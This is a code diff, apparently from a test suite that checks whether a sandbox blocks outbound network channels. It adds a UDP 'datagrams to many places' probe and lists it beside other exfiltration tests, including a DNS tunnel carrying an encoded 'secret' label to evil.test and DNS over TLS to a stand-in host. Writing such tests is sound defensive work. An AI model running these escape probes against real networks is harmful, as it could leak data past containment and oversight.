@@ -104,6 +104,28 @@ def datagram(address, data=b"evil", port=443):
         return stream.recv(100).decode("latin1")
 
 
+def datagrams():
+    """To a name, both families, another port and no bytes at all; then what one socket hears, three times."""
+    for family, place in (
+        (socket.AF_INET, (socket.gethostbyname("quic.evil.test"), 443)),
+        (socket.AF_INET6, ("2620:fe::fe", 443)),
+        (socket.AF_INET, ("9.9.9.9", 444)),
+    ):
+        for _ in range(2):
+            socket.socket(family, socket.SOCK_DGRAM).sendto(b"" if place[1] == 444 else b"evil", place)
+    heard = []
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
+        s.settimeout(0.5)
+        s.connect(("2620:fe::fe", 443))
+        for _ in range(2):
+            try:
+                s.send(b"evil")
+                heard.append(s.recv(100).decode())
+            except OSError as error:
+                heard.append(type(error).__name__)
+    return heard
+
+
 def name_answer(name):
     return socket.gethostbyname(name)
 
@@ -176,6 +198,7 @@ ATTACKS = {
     "a raw IP socket": lambda: opened(socket.AF_INET, socket.SOCK_RAW, 1),
     "a unix socket": lambda: opened(socket.AF_UNIX, socket.SOCK_STREAM),
     "QUIC": lambda: datagram("9.9.9.9"),
+    "datagrams to many places": datagrams,
     "a DNS tunnel": lambda: name_answer("c2VjcmV0.evil.test"),
     "a DNS server of one's own": lambda: datagram("8.8.8.8", b"evil", 53),
     "DNS over TLS": lambda: talk_tls(b"evil", name="dns.evil", to=("9.9.9.9", 853)),
